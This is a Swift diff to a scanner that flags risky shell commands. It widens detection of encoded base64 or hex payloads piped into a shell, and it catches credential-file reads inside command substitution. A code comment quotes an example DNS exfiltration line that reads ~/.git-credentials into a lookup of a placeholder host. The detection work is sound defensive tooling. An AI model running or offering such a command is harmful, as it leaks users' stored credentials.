@@ -163,12 +163,13 @@ enum ShellMatchers {
         let tokens = ShellSyntax.tokens(view, end, commandEnd).prefix(4)
         guard tokens.contains(where: {
             let word = ShellSyntax.word(view, $0)
-            return word == "-d" || word == "--decode" || word == "-D".lowercased() || word == "-di"
+            return word == "-d" || word == "--decode" || word == "-D".lowercased() || word == "-di" || word == "-r" || word == "-rp"
+                || word == "-revert"
         }) else { return }
         if let runnerEnd = ShellSyntax.pipeIntoRunner(view, end, commandEnd, runners: ShellSyntax.shells) {
             matches.append(TextMatch(
                 rule: .remoteScript, range: start..<runnerEnd,
-                message: "'\(view.excerpt(start..<runnerEnd))' runs a base64-encoded payload nobody can read in review",
+                message: "'\(view.excerpt(start..<runnerEnd))' runs an encoded (base64 or hex) payload nobody can read in review",
                 severity: .error))
         }
     }
@@ -184,7 +185,9 @@ enum ShellMatchers {
         var steps = 0
         while cursor > view.line.lowerBound, steps < 4 {
             let tokenStart = ShellSyntax.tokenStart(view, cursor)
-            let word = ShellSyntax.word(view, tokenStart..<cursor)
+            var word = ShellSyntax.word(view, tokenStart..<cursor)
+            // A read inside a command substitution ("nslookup $(cat ~/.git-credentials).x.test").
+            while let first = word.first, first == "$" || first == "(" || first == "`" { word.removeFirst() }
             if readers.contains(word) {
                 let pathEnd = view.tokenEnd(end)
                 matches.append(TextMatch(
